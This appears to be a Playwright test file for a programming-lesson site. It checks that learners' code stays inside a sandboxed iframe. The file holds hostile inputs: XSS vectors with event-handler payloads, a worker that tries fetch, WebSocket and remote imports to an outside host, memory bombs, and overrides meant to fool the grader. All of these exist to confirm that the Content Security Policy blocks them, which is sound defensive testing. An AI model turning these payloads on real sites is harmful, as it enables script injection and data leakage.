import { courseWorkSchema, readCourseWorkFile } from '@guildhall/content'
import type { Page } from '@playwright/test'
import { absentNames, askFrame, listen, runInFrame, sandboxProgram } from '../support/exercise-frames.ts'
import { expect, test } from '../support/test.ts'

const lesson = '/library/javascript?lesson=values-and-scope'
const title = 'Add up what a form sends'

async function openExercise(page: Page) {
  await page.goto(lesson)
  const card = page
    .getByRole('tabpanel')
    .locator('details')
    .filter({ has: page.getByText(title, { exact: true }) })
  await card.locator('summary').first().click()
  const editor = card.getByRole('textbox', { name: `Your code: ${title}` })
  async function run(code: string, says: string | RegExp) {
    await editor.fill(code)
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(page.locator('iframe')).toHaveCount(0)
    await expect(card.getByText(says).first()).toBeVisible()
    await expect(card.getByRole('button', { name: 'Run the tests' })).toBeEnabled()
  }
  return { card, run }
}

/** A worker's program that tries every way out, with all that a browser has. */
const reacherOf = (host: string) => `
  postMessage('ready')
  onmessage = async () => {
    const tries = {
      fetch: () => fetch('http://${host}/'),
      own: () => fetch('/api/library'),
      request: () => new Promise((done, fail) => {
        const request = new XMLHttpRequest()
        request.onload = done
        request.onerror = fail
        request.open('GET', 'http://${host}/')
        request.send()
      }),
      socket: () => new Promise((done, fail) => {
        const socket = new WebSocket('ws://${host}/')
        socket.onopen = done
        socket.onerror = fail
      }),
      script: () => import('http://${host}/a.js'),
      data: () => import('data:text/javascript,export default 1'),
      scripts: () => importScripts('http://${host}/a.js'),
      database: () => indexedDB.open('one'),
      cache: () => caches.open('one'),
    }
    const opened = []
    for (const [name, attempt] of Object.entries(tries)) {
      try { await attempt(); opened.push(name) } catch {}
    }
    postMessage({ opened, origin: self.origin })
  }`

const forgery = "self.ran = true; parent.postMessage('done', '*'); document.title = 'touched'; top.location = '/'"

/** Tries whatever a page without scripts can do, and scripts in every place they can stand in. */
const hostilePage = (host: string) => `<!doctype html>
  <html><head>
    <title>untouched</title>
    <base href="http://${host}/">
    <meta http-equiv="refresh" content="0;url=http://${host}/">
    <link rel="preconnect" href="http://${host}"><link rel="dns-prefetch" href="http://${host}">
    <link rel="stylesheet" href="http://${host}/a.css"><link rel="prefetch" href="http://${host}/a">
    <link rel="icon" href="http://${host}/icon.png"><link rel="modulepreload" href="http://${host}/a.js">
    <style>@import "http://${host}/b.css"; body { background: url(http://${host}/c.png) }</style>
    <script>${forgery}</script><script src="http://${host}/a.js"></script>
  </head><body onload="${forgery}">
    <img src="http://${host}/a.png" onerror="${forgery}"><svg onload="${forgery}"><use href="http://${host}/a.svg#b"/></svg>
    <iframe src="http://${host}/"></iframe><iframe srcdoc="<link rel=preconnect href=http://${host}><script>${forgery}</script>"></iframe>
    <iframe src="javascript:${forgery}"></iframe><object data="http://${host}/"></object><embed src="http://${host}/">
    <video src="http://${host}/a.mp4" autoplay onerror="${forgery}"></video>
    <details open ontoggle="${forgery}"><summary>a</summary></details>
    <form id="form" action="http://${host}/"><input autofocus onfocus="${forgery}" name="parentNode"></form>
    <template shadowrootmode="open"><script>${forgery}</script></template>
  </body></html>`

test.describe('a hostile program', () => {
  // The policy refuses the import, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates/i] })

  test('is stopped, or finds nothing, and the page goes on', async ({ page }) => {
    const { card, run } = await openExercise(page)
    const elsewhere = await listen()

    // Neighbors end differently, so that none passes by what the one before it said.
    await run('for (;;);', 'Stopped after 2 seconds.')
    await run("for (;;) console.log('more')", 'The program prints too much.')
    await run('const total = () => { for (;;); }', 'Stopped after 2 seconds.')
    await run('const kept = []; for (;;) kept.push(new Uint8Array(2 ** 24).fill(1))', 'uses too much memory')
    await run('const total = () => new Promise(() => {})', 'Stopped after 2 seconds.')
    await run(
      'const { constructor } = new Uint8Array(1); const kept = new constructor(2 ** 30)',
      'uses too much memory',
    )
    await run("let text = 'x'; for (;;) text = text.repeat(1000)", 'uses too much memory')
    await run(
      `const total = () => ${JSON.stringify(absentNames)}.filter((name) => name in globalThis || name in self)`,
      /^\[\]$/,
    )
    await run(
      `const total = () => import('http://${elsewhere.host}/a.js').then(() => 'loaded', (error) => error.name)`,
      "'TypeError'",
    )
    await run('const total = () => self.constructor.name', "'EventTarget'")

    expect(await elsewhere.close()).toBe(0)
    // Whoever overrides what judges them deceives nobody but themselves, and the next run begins anew.
    await run(
      "Promise.prototype.then = Array.prototype.map = JSON.stringify = Object.is = () => { throw new Error('no') }",
      /tests pass|stopped|Stopped|does not run/,
    )
    await run('const total = () => 20', '1 of 5 tests pass.')
    await expect(card.getByText('Solved', { exact: true })).toHaveCount(0)
  })

  test('that fills the heap ends with its frame', async ({ page }) => {
    const { run } = await openExercise(page)

    await run('const kept = []; for (;;) kept.push(Array(1000).fill(0).map(() => ({})))', /Stopped after|was stopped/)
    await run('const total = () => 20', '1 of 5 tests pass.')
  })

  test('meets the policy of the frame even where nothing was removed', { tag: '@push' }, async ({ page }) => {
    await page.goto(lesson)
    const elsewhere = await listen()

    const found = await runInFrame(page, { program: reacherOf(elsewhere.host), code: '', tests: [{}] })

    expect(found[0]).toEqual({ opened: [], origin: 'null' })
    expect(await elsewhere.close()).toBe(0)
  })
})

test('a program in TypeScript runs without its types, and one that cannot be read says so', async ({ page }) => {
  const program = await sandboxProgram('typescript')
  await page.goto(lesson)
  const judge = (code: string) =>
    runInFrame(page, { program, code, tests: [{ call: 'new Price(3, By.Two).total', gives: '6' }] })

  const typed = 'enum By { Two = 2 }\nclass Price {\n  constructor(private cents: number, readonly by: By) {}\n'
  expect(await judge(`${typed}  get total(): number { return this.cents * this.by }\n}`)).toMatchObject([
    { test: { passed: true, came: '6' } },
  ])
  expect(await judge(`${typed}  get total(: number`)).toMatchObject([
    { test: { error: expect.stringContaining('SyntaxError') } },
  ])
})

test.describe('a hostile page', () => {
  // The policy refuses what it tries, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates|Blocked|sandboxed|Unsafe attempt/i] })

  test('runs no script, reaches nobody, and goes nowhere', { tag: '@push' }, async ({ page }) => {
    await page.goto('/library/accessible-interfaces?lesson=forms')
    const elsewhere = await listen()
    const program = await sandboxProgram('page')

    const judged = await askFrame(page, '/exercise-frame/page', {
      program,
      page: { html: hostilePage(elsewhere.host) },
      test: {
        call: "new Promise((done) => setTimeout(done, 1000, [document.title, self.origin, location.pathname, 'ran' in self]))",
        gives: "['untouched', 'null', '/exercise-frame/page', false]",
      },
    })

    expect(judged).toMatchObject({ passed: true })
    expect(await elsewhere.close()).toBe(0)
    await expect(page).toHaveURL(/lesson=forms/)
  })

  test('cannot answer for the tests, and the preview shows it without its scripts', async ({ page }) => {
    await page.goto('/library/accessible-interfaces?lesson=forms')
    const name = 'Give a form its names'
    const card = page
      .getByRole('tabpanel')
      .locator('details')
      .filter({ has: page.getByText(name, { exact: true }) })
    await card.locator('summary').first().click()
    const editor = card.getByRole('textbox', { name: `Your code: ${name}` })

    await editor.fill(`<p id="shown">Hello</p><script>${forgery}</script><img src="data:," onerror="${forgery}">`)
    await expect(card.frameLocator('iframe').locator('#shown')).toHaveText('Hello')
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(card.getByText('0 of 4 tests pass.')).toBeVisible()

    const [exercise] = readExercise('accessible-interfaces', 'parking-question')
    await editor.fill(exercise?.solution ?? '')
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(card.getByText('Solved: all 4 tests pass.')).toBeVisible()
  })
})

test('the frame allows scripts and nothing else, wherever it is opened', { tag: '@push' }, async ({ request }) => {
  const { 'content-security-policy': policy } = (await request.get('/exercise-frame')).headers()

  expect(policy?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts', "default-src 'none'", "frame-ancestors 'self'"]),
  )
  expect(policy).not.toMatch(/https?:|unsafe-inline|allow-same-origin|'self'(?!$)|connect-src/)

  const { 'content-security-policy': ofPages } = (await request.get('/exercise-frame/page')).headers()
  expect(ofPages?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts', "default-src 'none'", "frame-ancestors 'self'"]),
  )
  expect(ofPages).toMatch(/script-src 'sha256-[^']+' 'unsafe-eval';/)
  expect(ofPages).not.toMatch(/https?:|allow-same-origin|'self'(?!$)|connect-src|blob:/)

  const { 'content-security-policy': ofComponents } = (await request.get('/exercise-frame/component')).headers()
  expect(ofComponents?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts allow-forms', "default-src 'none'", "form-action 'none'"]),
  )
  expect(ofComponents).not.toMatch(/https?:|allow-same-origin|'self'(?!$)|connect-src|blob:/)
})

/** A third of them at each push, and all by those who look for new cases. */
const turns = process.env.GUILDHALL_NIGHT ? 1 : 3

test('a browser agrees with the check of exercises on solutions and planted mistakes', async ({ page }) => {
  const program = await sandboxProgram('javascript')
  await page.goto(lesson)

  const programs = courseWorkSchema
    .parse(readCourseWorkFile('javascript'))
    .lessons.flatMap(({ exercises }) => exercises)
    .flatMap((exercise) => (exercise.kind === 'code' && exercise.language === 'javascript' ? exercise : []))
    .filter((_, index) => index % turns === 0)
  for (const { id, solution, wrong, tests } of programs) {
    const passes = async (code: string) => {
      const judged = (await runInFrame(page, { program, code, tests })) as { test?: { passed?: boolean } }[]
      return judged.length === tests.length && judged.every(({ test }) => test?.passed)
    }
    expect([id, await passes(solution)]).toEqual([id, true])
    for (const { name, code } of wrong) expect([id, name, await passes(code)]).toEqual([id, name, false])
  }
  expect(programs.length).toBeGreaterThan(3)
})

const readExercise = (course: string, id: string) =>
  courseWorkSchema
    .parse(readCourseWorkFile(course))
    .lessons.flatMap(({ exercises }) => exercises)
    .flatMap((exercise) => (exercise.kind === 'code' && exercise.id === id ? exercise : []))
